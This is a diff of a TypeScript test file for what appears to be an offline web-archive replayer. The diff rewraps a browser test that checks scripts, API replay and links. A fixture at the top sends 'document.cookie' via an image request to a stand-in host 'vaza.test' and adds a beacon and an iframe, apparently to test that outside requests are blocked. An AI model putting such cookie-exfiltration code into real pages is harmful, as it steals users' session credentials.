@@ -83,57 +83,60 @@ document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href="http:/
 new Image().src = 'http://vaza.test/d.gif?' + document.cookie; navigator.sendBeacon('http://vaza.test/e', 'x');
 document.body.appendChild(document.createElement('iframe')).src = 'http://vaza.test/f';`;
 
-it('gives scripts from a disk what they had on a host, whatever way they ask, and nothing else', async () => {
-  const sink = new MemorySink();
-  const manifest = await made(
-    sink,
-    {
-      '/oferta/?id=1': [LIVELY, HTML],
-      '/js/antigo.js?v=3': [ANTIGO, SCRIPT],
-      '/js/novo.js': [
-        `import { a } from './a.js'; import('./' + 'b.js').then(({ b }) => diz('modulos ' + a() + b));
+deepIt(
+  'gives scripts from a disk what they had on a host, whatever way they ask, and nothing else',
+  async () => {
+    const sink = new MemorySink();
+    const manifest = await made(
+      sink,
+      {
+        '/oferta/?id=1': [LIVELY, HTML],
+        '/js/antigo.js?v=3': [ANTIGO, SCRIPT],
+        '/js/novo.js': [
+          `import { a } from './a.js'; import('./' + 'b.js').then(({ b }) => diz('modulos ' + a() + b));
          import(\`./so.js\`).then(({ so }) => diz('modelo ' + so));
          if (import.meta.resolve('./b.js') === 'http://loja.test/js/b.js') diz('resolve');
          const imagem = new Image(); foto('meta', imagem); imagem.src = new URL('../img/foto.png', import.meta.url).href;`,
-        SCRIPT,
-      ],
-      '/js/a.js': [
-        'import { b } from "./b.js"; export const a = () => "a" + b; export const c = "c";',
-        SCRIPT,
-      ],
-      '/js/b.js': ['import { c } from "./a.js"; export const b = "b"; export const d = () => c;', SCRIPT],
-      '/js/so.js': ['export const so = "so"', SCRIPT],
-      '/js/tarde.js': ['export const tarde = "sim"', SCRIPT],
-      '/img/foto.png': [PICTURE, 'image/png'],
-      '/oferta/perto.png': [PICTURE, 'image/png'],
-      '/__ext/cdn.test/foto.png': [PICTURE, 'image/png'],
-      '/guia.pdf': ['pdf', 'application/pdf'],
-    },
-    {
-      'GET /api/preco': ['{"preco":"97 reais, à vista"}', 'application/json'],
-      'GET /api/erro': ['sem', 'text/plain', 503],
-      'POST /__ext/api.test/frete cep=1': ['um', 'text/plain'],
-      'POST /__ext/api.test/frete cep=2': ['dois', 'text/plain'],
-    },
-  );
-  const address = await disk.unpack({ manifest }, sink, 'viva');
-  await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context, refused }) => {
-    const tab = await context.newPage();
-    await tab.goto(address);
-    const said =
-      'conjunto erro 503sem falta 404 fetch 97 reais, à vista json meta modelo so modulos abb perto raiz regra resolve rota tarde sim um xhr 20097 reais, à vista';
-    await tab.waitForFunction(`document.getElementById('dito').textContent === ${JSON.stringify(said)}`);
-    const links = (value: string) =>
-      tab.evaluate(`['fora', 'dentro', 'aqui'].map((id) => document.getElementById(id).${value})`);
-    expect(await links('getAttribute("href")')).toEqual(['http://loja.test/outra?x=1', 'guia.pdf', '#fim']);
-    expect(await links('href')).toEqual([
-      'http://loja.test/outra?x=1',
-      'http://loja.test/guia.pdf',
-      'http://loja.test/oferta/?id=1#fim',
-    ]);
-    expect(refused()).toEqual([]);
-  });
-});
+          SCRIPT,
+        ],
+        '/js/a.js': [
+          'import { b } from "./b.js"; export const a = () => "a" + b; export const c = "c";',
+          SCRIPT,
+        ],
+        '/js/b.js': ['import { c } from "./a.js"; export const b = "b"; export const d = () => c;', SCRIPT],
+        '/js/so.js': ['export const so = "so"', SCRIPT],
+        '/js/tarde.js': ['export const tarde = "sim"', SCRIPT],
+        '/img/foto.png': [PICTURE, 'image/png'],
+        '/oferta/perto.png': [PICTURE, 'image/png'],
+        '/__ext/cdn.test/foto.png': [PICTURE, 'image/png'],
+        '/guia.pdf': ['pdf', 'application/pdf'],
+      },
+      {
+        'GET /api/preco': ['{"preco":"97 reais, à vista"}', 'application/json'],
+        'GET /api/erro': ['sem', 'text/plain', 503],
+        'POST /__ext/api.test/frete cep=1': ['um', 'text/plain'],
+        'POST /__ext/api.test/frete cep=2': ['dois', 'text/plain'],
+      },
+    );
+    const address = await disk.unpack({ manifest }, sink, 'viva');
+    await disk.launcher.run({ timeoutMs: 60_000, maxBytes: 1, only: [] }, async ({ context, refused }) => {
+      const tab = await context.newPage();
+      await tab.goto(address);
+      const said =
+        'conjunto erro 503sem falta 404 fetch 97 reais, à vista json meta modelo so modulos abb perto raiz regra resolve rota tarde sim um xhr 20097 reais, à vista';
+      await tab.waitForFunction(`document.getElementById('dito').textContent === ${JSON.stringify(said)}`);
+      const links = (value: string) =>
+        tab.evaluate(`['fora', 'dentro', 'aqui'].map((id) => document.getElementById(id).${value})`);
+      expect(await links('getAttribute("href")')).toEqual(['http://loja.test/outra?x=1', 'guia.pdf', '#fim']);
+      expect(await links('href')).toEqual([
+        'http://loja.test/outra?x=1',
+        'http://loja.test/guia.pdf',
+        'http://loja.test/oferta/?id=1#fim',
+      ]);
+      expect(refused()).toEqual([]);
+    });
+  },
+);
 
 const PLACE_PAGE =
   `<!doctype html><html><head><base href="/oferta/"></head><body><p id=dito></p><a id=termos>termos</a>
